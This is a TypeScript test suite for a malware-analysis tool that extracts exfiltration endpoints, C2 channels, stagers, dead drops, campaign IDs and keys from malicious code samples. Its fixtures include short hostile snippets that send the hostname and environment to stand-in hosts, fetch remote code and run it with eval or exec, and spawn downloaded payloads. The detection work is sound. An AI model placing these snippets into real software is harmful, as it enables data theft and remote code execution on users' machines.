import fc from 'fast-check';
import { expect, it, describe as suite } from 'vitest';
import { describe } from './describe.ts';
import { event, layer, materialOf, readable, run } from './testing.ts';

const config = (text: string, kind = 'javascript') => describe(materialOf(text, kind)).config;
const urls = (text: string, kind = 'javascript') =>
  config(text, kind).endpoints.map(({ method, url, role }) => `${method} ${url} ${role}`);

suite('endpoints', () => {
  it('reads the clients that programs use', () => {
    const U = 'http://192.0.2.7:1244/keys';
    const body = '{ ts: Date.now(), type: "Zx12", hid: os.hostname(), ss: "a", cc: "b" }';
    for (const code of [
      `axios.post("${U}", ${body})`,
      `axios({ method: "post", url: "${U}", data: ${body} })`,
      `fetch("${U}", { method: "POST", body: JSON.stringify(${body}) })`,
      `request.post({ url: "${U}", formData: ${body} }, () => {})`,
      `request({ uri: "${U}", method: "POST", json: ${body} })`,
      `got.post("${U}", { json: ${body} })`,
      `needle("post", "${U}", ${body})`,
      `superagent.post("${U}").send(${body}).end()`,
      `const r = require("http").request({ hostname: "192.0.2.7", port: 1244, path: "/keys", method: "POST" }); r.write(JSON.stringify(${body})); r.end();`,
      `const f = new FormData(); for (const x of [1]) {} f.append("ts", Date.now()); f.append("hid", os.hostname()); f.append("ss", "a"); f.append("cc", "b"); f.append("type", "Zx12"); axios.post("${U}", f)`,
      `const x = new XMLHttpRequest(); x.open("POST", "${U}"); x.send(JSON.stringify(${body}))`,
      `fetch("${U}", { method: "POST", body: new URLSearchParams(${body}) })`,
    ]) {
      const made = config(`const os = require("os"); ${code}`);
      expect(
        made.endpoints.map(({ method, url, role }) => `${method} ${url} ${role}`),
        code,
      ).toEqual([`POST ${U} exfiltration`]);
      expect([...(made.exfiltration[0]?.fields ?? [])].sort(), code).toEqual(['cc', 'hid', 'ss', 'ts', 'type']);
      expect(
        made.campaignIds.map(({ value }) => value),
        code,
      ).toEqual(['Zx12']);
    }
  });

  it('reads the clients of Python', () => {
    for (const code of [
      'requests.post("http://192.0.2.7:1244/keys", data={"hid": socket.gethostname()})',
      'urllib.request.urlopen("http://192.0.2.7:1244/keys", data=urllib.parse.urlencode({"hid": socket.gethostname()}).encode())',
      's = requests.Session()\nrequests.request("POST", "http://192.0.2.7:1244/keys", json={"hid": socket.gethostname()})',
    ])
      expect(
        config(code, 'python').exfiltration.map(({ endpoint, fields }) => `${endpoint} ${fields}`),
        code,
      ).toEqual(['http://192.0.2.7:1244/keys hid']);
  });

  it('tells what is done with the answer', () => {
    expect(urls('fetch("https://a.example/x").then((r) => r.text()).then(eval)')).toEqual(
      ['null https://a.example/x unknown'].map((one) => one.replace('null', 'GET')),
    );
    expect(
      urls('const r = await fetch("https://a.example/x"); new Function("require", await r.text())(require)'),
    ).toEqual(['GET https://a.example/x stager']);
    expect(
      urls(
        'const { exec } = require("child_process"); const r = await axios.get("https://a.example/x"); exec(r.data.cmd)',
      ),
    ).toEqual(['GET https://a.example/x c2']);
    expect(
      urls(
        'const fs = require("fs"), cp = require("child_process"); axios.get("https://a.example/x").then((r) => { fs.writeFileSync("/tmp/q.js", r.data); cp.spawn("node", ["/tmp/q.js"]); })',
      ),
    ).toEqual(['GET https://a.example/x payload']);
  });

  it('knows services by their addresses', () => {
    expect(urls('axios.get("https://api.npoint.io/00000000000000000000")')).toEqual([
      'GET https://api.npoint.io/00000000000000000000 dead-drop',
    ]);
    expect(urls('axios.get("https://ip-api.fixture.example/json")')).toEqual([
      'GET https://ip-api.fixture.example/json lookup',
    ]);
    expect(urls('axios.get("https://registry.npmjs.org/left-pad")')).toEqual([
      'GET https://registry.npmjs.org/left-pad reference',
    ]);
    expect(urls('require("net").connect(4433, "192.0.2.9")')).toEqual(['null 192.0.2.9:4433 c2']);
    expect(urls('io("http://192.0.2.9:8087")')).toEqual(['null http://192.0.2.9:8087 c2']);
  });

  it('makes path schemes of names, known routes and siblings', () => {
    const schemes = (code: string) => config(code).pathScheme.map(({ template }) => template);
    expect(schemes('const t = "Qw12", g = "b7"; axios.get(`http://192.0.2.1:1244/client/${t}/${g}`)')).toEqual([
      '/client/{campaign}/{build}',
    ]);
    expect(schemes('axios.get("http://192.0.2.1:1244/client/Qw12/b7")')).toEqual(['/client/{campaign}/{build}']);
    expect(schemes('axios.get("http://h.example/files/a1/x"); axios.get("http://h.example/files/b2/x")')).toEqual([
      '/files/{id}/x',
    ]);
    expect(schemes('axios.get("http://h.example/a/b")')).toEqual([]);
  });

  it('has none with a host that was decoded wrongly', () => {
    expect(urls('axios.get("http://19\u00e3\\"x/keys")')).toEqual([]);
  });
});

suite('gates, keys and ids', () => {
  it('finds what opens the way', () => {
    const gates = config(
      'if (process.env.STAGE_KEY !== "lamp") return; axios.get("https://a.example/api", { headers: { "x-secret-header": "secret-9", Accept: "text/html" } }).then((r) => eval(r.data))',
    ).gates;
    expect(gates.map(({ kind, name, value }) => `${kind} ${name} ${value}`)).toEqual([
      'environment STAGE_KEY lamp',
      'header x-secret-header secret-9',
    ]);
    expect(
      config('axios.post("https://a.example/api", { ...process.env }).then((r) => eval(r.data))').gates.map(
        ({ kind, name }) => `${kind} ${name}`,
      ),
    ).toEqual(['body process.env']);
  });

  it('does not take the marker of our stand-ins for one', () => {
    expect(config("if (process.env.COUNTERLURE_DECOY !== '1') throw new Error('inert');").gates).toEqual([]);
    expect(
      config("import os\nif os.environ.get('COUNTERLURE_DECOY') != '1': raise SystemExit()", 'python').gates,
    ).toEqual([]);
  });

  it('finds keys of HMAC, XOR, ciphers and tokens', () => {
    const jwt = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"iss":"supabase","ref":"fixtureref","role":"anon"}').toString('base64url')}.c2ln`;
    const keys = config(
      `crypto.createHmac("sha256", "s3cret").update(x); crypto.createDecipheriv("aes-256-cbc", Buffer.from("${'0a'.repeat(32)}", "hex"), iv); const t = "${jwt}"; function u(s) { const k = "abc9"; for (let i = 0; i < s.length; i++) o ^= s[i] ^ k.charCodeAt(i % k.length); }`,
    ).keys;
    expect(keys.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      `aes ${'0a'.repeat(32)}`,
      `api ${jwt}`,
      'hmac s3cret',
      'xor abc9',
    ]);
    expect(keys[1]?.use).toContain('role anon, project fixtureref');
  });

  it('reads a campaign that is a phrase', () => {
    expect(
      config(
        `axios.get("https://a.example/api/checkStatus", { params: { tid: "${Buffer.from('some lamp phrase').toString('base64')}", h: os.hostname() } })`,
      ).campaignIds.map(({ value }) => value),
    ).toEqual([Buffer.from('some lamp phrase').toString('base64'), 'some lamp phrase']);
  });

  it('leaves ordinary fields alone', () => {
    const made = config(
      'axios.post("https://a.example/api", { type: "event", version: "2.1.0", t: "x", name: user.name })',
    );
    expect([...made.campaignIds, ...made.buildIds]).toEqual([]);
  });
});

suite('dead drops', () => {
  it('reads contracts through JSON-RPC and libraries', () => {
    const A = '0x1111222233334444555566667777888899990000';
    const drops = (code: string) =>
      config(code).deadDrops.map(
        ({ kind, chain, address, selector, rpc }) => `${kind} ${chain} ${address} ${selector} ${rpc}`,
      );
    expect(
      drops(
        `fetch("https://bsc-node.fixture.example", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: "${A}", data: "0x6d4ce63c" }, "latest"] }) })`,
      ),
    ).toEqual([`contract BNB Smart Chain ${A} 0x6d4ce63c https://bsc-node.fixture.example`]);
    expect(
      drops(
        `const c = new ethers.Contract("${A}", ["function get() view returns (string)"], new ethers.JsonRpcProvider("https://bsc-node.fixture.example")); c.get();`,
      ),
    ).toEqual([`contract BNB Smart Chain ${A} 0x6d4ce63c https://bsc-node.fixture.example`]);
  });

  it('names no hash of our scripted answers', () => {
    const ours = `0x${'d0'.repeat(32)}`;
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_getTransactionByHash', params: [ours] });
    const made = describe(
      materialOf('', 'javascript', [
        event(0, 'network', 'fetch', { url: 'https://bsc.fixture.example/', method: 'POST', body }),
      ]),
    ).config;
    expect(made.deadDrops.map(({ kind, address }) => `${kind} ${address}`)).toEqual(['transaction null']);
  });
});

suite('tracking', () => {
  it('knows a store, its table and the row', () => {
    const code =
      'const { createClient } = require("@supabase/supabase-js"); const os = require("os"); const db = createClient("https://fixturenotreal.supabase.co", "sb_publishable_FixtureNotReal000000"); setInterval(() => db.from("machines").insert({ username: os.userInfo().username, hostname: os.hostname(), os: os.platform(), created_at: new Date().toISOString() }), 60000);';
    const { tracking } = config(code);
    expect(tracking?.destination).toMatchObject({ kind: 'supabase', project: 'fixturenotreal', table: 'machines' });
    expect(tracking?.rows).toEqual([
      { column: 'username', type: 'text', example: null },
      { column: 'hostname', type: 'text', example: null },
      { column: 'os', type: 'text', example: null },
      { column: 'created_at', type: 'timestamp', example: null },
    ]);
    expect(tracking?.transmissions[0]?.every).toBe(60_000);
    expect(tracking?.keys).toMatchObject([{ name: 'apikey', value: 'sb_publishable_FixtureNotReal000000' }]);
  });

  it('tells an identifier of the sample from one of the server', () => {
    const own = config(
      'const os = require("os"); axios.post("https://a.example/r", { uid: require("crypto").createHash("sha1").update(os.hostname() + os.userInfo().username).digest("hex"), os: os.type() })',
    ).tracking?.identifier;
    expect(own).toMatchObject({ name: 'uid', assignedBy: 'sample' });
    const given = config(
      'const os = require("os"); let sysId = null; async function f() { const res = await axios.get("https://a.example/api/checkStatus", { params: { sysId, h: os.hostname() } }); sysId = res.data.sysId; } setInterval(f, 5000)',
    ).tracking?.identifier;
    expect(given).toMatchObject({ name: 'sysId', assignedBy: 'server' });
  });

  it('takes a path of a database for a field', () => {
    const made = config(
      'const os = require("os"); const id = os.hostname() + "-" + os.userInfo().username; axios.put(`https://fixture-not-real.firebaseio.com/seen/${id}.json`, { at: Date.now(), os: os.platform() })',
    ).tracking;
    expect(made?.destination).toMatchObject({ kind: 'firebase', project: 'fixture-not-real', table: 'seen' });
    expect(made?.identifier?.name).toBe('id');
  });

  it('reads a trace alone, and says what the decoy machine filled in', () => {
    const body = JSON.stringify({
      ukey: 742,
      host: '742_DESKTOP-DECOY7',
      username: 'decoy',
      os: 'win32',
      at: 1_748_855_554_000,
    });
    const { tracking } = describe(
      materialOf('', 'javascript', [
        event(0, 'network', 'axios.post', { url: 'http://192.0.2.8:8087/api/notify', method: 'POST', body }),
      ]),
    ).config;
    expect(tracking?.fields.map(({ name, meaning, source }) => `${name} ${meaning} ${source}`)).toEqual([
      'at time Date.now()',
      'host victim-id "742_" + os.hostname()',
      'os os process.platform',
      'ukey campaign "742"',
      'username user os.userInfo().username',
    ]);
    expect(tracking?.identifier).toMatchObject({ name: 'host', assignedBy: 'sample' });
  });

  it('tells the rhythm of recorded requests by the timers that were set', () => {
    const at = (id: number, time: number) =>
      event(
        id,
        'network',
        'fetch',
        { url: 'http://192.0.2.8/beat', method: 'POST', body: '{"h":"DESKTOP-DECOY7"}' },
        { time },
      );
    const events = [
      event(0, 'timer', 'setInterval', { milliseconds: '47000', repeats: 'yes' }),
      at(1, 50),
      at(2, 47_060),
      at(3, 94_070),
    ];
    expect(describe(materialOf('', 'javascript', events)).config.tracking?.transmissions[0]?.every).toBe(47_000);
  });

  it('never shows an environment', () => {
    const body = JSON.stringify({ env: { COUNTERLURE_DECOY: '1', PATH: '/bin', SECRET: 'x' }, h: 'DESKTOP-DECOY7' });
    const made = describe(
      materialOf('', 'javascript', [event(0, 'network', 'fetch', { url: 'http://192.0.2.8/e', method: 'POST', body })]),
    ).config.tracking;
    expect(JSON.stringify(made?.rows)).not.toContain('SECRET');
    expect(made?.fields.find(({ name }) => name === 'env')).toMatchObject({ source: 'process.env', example: null });
  });
});

suite('merging', () => {
  it('is one entry with several proofs', () => {
    const events = [event(7, 'network', 'axios.get', { url: 'http://192.0.2.7:1244/client/Qw12/b7', method: 'GET' })];
    const [endpoint, ...more] = describe(
      materialOf('const t = "Qw12"; axios.get(`http://192.0.2.7:1244/client/${t}/b7`)', 'javascript', events),
    ).config.endpoints;
    expect(more).toEqual([]);
    expect(endpoint?.evidence.map(({ how, event: id }) => `${how} ${id}`)).toEqual(['static null', 'recorded 7']);
  });

  it('closes an open address with what was seen', () => {
    const events = [event(0, 'network', 'axios.get', { url: 'http://192.0.2.7:1244/client/Qw12/b7', method: 'GET' })];
    const made = describe(
      materialOf(
        'function go(host, type, build) { axios.get(`http://${host}:1244/client/${type}/${build}`); } module.exports = go;',
        'javascript',
        events,
      ),
    ).config;
    expect(made.endpoints.map(({ url }) => url)).toEqual(['http://192.0.2.7:1244/client/Qw12/b7']);
    expect(made.campaignIds.map(({ name, value }) => `${name} ${value}`)).toEqual(['type Qw12']);
  });

  it('calls folded what only the readable source says', () => {
    const material = {
      ...materialOf('go(_0x1(7))'),
      sources: new Map([['L0', readable('axios.get("http://192.0.2.7:1244/pdown")')]]),
    };
    expect(describe(material).config.endpoints[0]?.evidence[0]).toMatchObject({ layer: 'L0', line: 1, how: 'folded' });
  });

  it('gives the same whatever the order of runs and events', () => {
    const texts = ['a', 'b', 'c'].map((name, i) =>
      event(i, 'network', 'fetch', { url: `http://192.0.2.7/${name}`, method: 'POST', body: '{"h":"DESKTOP-DECOY7"}' }),
    );
    const made = (list: typeof texts) =>
      JSON.stringify(describe({ ...materialOf(''), runs: [run('windows')], events: list }));
    expect(made([...texts].reverse())).toBe(made(texts));
  });
});

suite('indicators', () => {
  it('are never values of the decoy machine, nor references taken for servers', () => {
    const events = [
      event(0, 'network', 'fetch', {
        url: 'http://192.0.2.200/x',
        method: 'POST',
        body: '{"ip":"192.0.2.7","h":"DESKTOP-DECOY7"}',
      }),
    ];
    const { indicators } = describe(materialOf('fetch("https://github.com/a/b")', 'javascript', events));
    expect(indicators.map(({ value }) => value)).not.toContain('192.0.2.7');
    expect(JSON.stringify(indicators)).not.toMatch(/DECOY7/i);
    expect(indicators.find(({ value }) => value.includes('github.com'))?.role).toBe('reference');
    expect(indicators.find(({ value }) => value === '192.0.2.200')?.role).toBe('c2');
  });

  it('say what was put together by us', () => {
    const { indicators } = describe(
      materialOf('const h = "192.0.2.99"; axios.get("http://" + h + ":1244" + "/pdown")'),
    );
    expect(indicators.find(({ value }) => value === 'http://192.0.2.99:1244/pdown')).toMatchObject({
      origin: 'inferred',
      role: 'payload-host',
    });
  });
});

suite('verdict', () => {
  const level = (text: string, kind = 'javascript') => describe(materialOf(text, kind)).verdict.level;

  it('is clean for ordinary programs', () => {
    for (const code of [
      'const express = require("express"); const app = express(); app.post("/keys", (q, s) => s.json({ ok: 1 })); app.listen(3000);',
      'export const api = axios.create({ baseURL: "https://api.shop.example" }); export const login = (d) => api.post("/login", d);',
      'module.exports = { content: ["./src/**/*.tsx"], plugins: [require("x")] };',
      'const fs = require("fs"); for (const f of fs.readdirSync(".")) if (!["node_modules", ".git", "dist"].includes(f)) console.log(f);',
    ])
      expect(level(code), code).toBe('clean');
  });

  it('is no more than suspicious where all signs are weak', () => {
    const code =
      'const os = require("os"); const cp = require("child_process"); const lock = "/tmp/pid.1.lock"; fetch("https://ip-api.fixture.example/json"); setInterval(() => fetch("https://t.example/v", { method: "POST", headers: { "x-kit": "9" }, body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) }), 60000); cp.exec("tasklist"); cp.exec("powershell -Command 1"); require("archiver")("zip");';
    expect(['notice', 'suspicious']).toContain(level(code));
  });

  it('is malicious where code comes from a hidden server that is told of the victim', () => {
    expect(
      level(
        'const os = require("os"); const k = [1, 2, 3]; const x = (b) => String.fromCharCode(...b.map((c, i) => c ^ k[i % k.length])); axios.post("https://a.example/v", { h: os.hostname(), u: os.userInfo().username }).then((r) => eval(r.data.code));',
      ),
    ).toBe('malicious');
  });
});

suite('hostile material', () => {
  it('gives less, never an exception', () => {
    const texts = [
      '\u0000'.repeat(1_000),
      `${'{'.repeat(3_000)}`,
      `axios.get("${'http://a'.repeat(2_000)}")`,
      `const a = {${Array.from({ length: 3_000 }, (_, i) => `"k${i}": "${'x'.repeat(20)}"`).join(',')}}; axios.post("http://h.example", a)`,
      'var __proto__ = 1, constructor = { prototype: 2 }; axios.post("http://h.example", { __proto__: null, constructor, "": 1 })',
    ];
    for (const text of texts)
      for (const kind of ['javascript', 'python', 'shell', 'powershell', 'json', 'binary', 'what'])
        expect(describe(materialOf(text, kind)).verdict.level).toBeDefined();
  });

  it('bears events with odd fields', () => {
    const text = fc.oneof(
      fc.string({ maxLength: 60 }),
      fc.constantFrom(
        'http://',
        'http://[',
        '{"a":',
        '[1,[2,[3]]]',
        '%E0%A4%A',
        'a=b&c=%',
        '-',
        'x'.repeat(5_000),
        '__proto__',
        '{"__proto__":{"a":1}}',
      ),
    );
    const made = fc.record({
      category: fc.constantFrom(
        'network',
        'process',
        'file',
        'crypto',
        'timer',
        'database',
        'blockchain',
        'code',
        'persistence',
      ),
      call: text,
      url: text,
      body: text,
      headers: text,
      command: text,
      path: text,
      key: text,
    });
    fc.assert(
      fc.property(fc.array(made, { maxLength: 8 }), (list) => {
        const events = list.map(({ category, call, ...data }, i) => event(i, category as 'network', call, data));
        return describe(materialOf('', 'javascript', events)).config.endpoints.length >= 0;
      }),
      { numRuns: 150 },
    );
  });

  it('takes layers without text', () => {
    expect(describe({ ...materialOf(''), layers: [{ ...layer(''), text: null, kind: 'binary' }] }).indicators).toEqual(
      [],
    );
  });
});
